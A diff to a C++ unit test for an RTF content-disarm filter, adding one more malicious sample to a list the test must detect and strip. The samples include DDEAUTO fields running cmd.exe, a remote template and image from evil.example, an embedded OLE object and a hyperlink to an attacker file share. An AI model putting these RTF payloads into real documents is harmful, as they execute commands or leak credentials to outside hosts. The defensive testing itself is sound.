@@ -498,7 +498,8 @@ TEST(CdrRtf, DestinationsAreFoundWhereverWordFindsThemAndOnlyKnownOnesAreWritten
 TEST(CdrRtf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
   for (const char* raw : {"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt x}}}",
                           "{\\rtf1{\\field{\\*\\fldinst \\'44DE c:\\\\\\\\windows\\\\\\\\cmd.exe}{\\fldrslt x}}}", "{\\rtf1{\\*\\template http://evil.example/t.dotm}}",
-                          "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}}}"}) {
+                          "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}}}",
+                          "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" \"file://attacker/share/x.lnk\"}{\\fldrslt x}}}"}) {
     EXPECT_FALSE(internal::rtf_active_content(raw).empty()) << raw;
     CdrResult r = run(raw, "a.rtf");
     if (r.verdict != Verdict::blocked) {
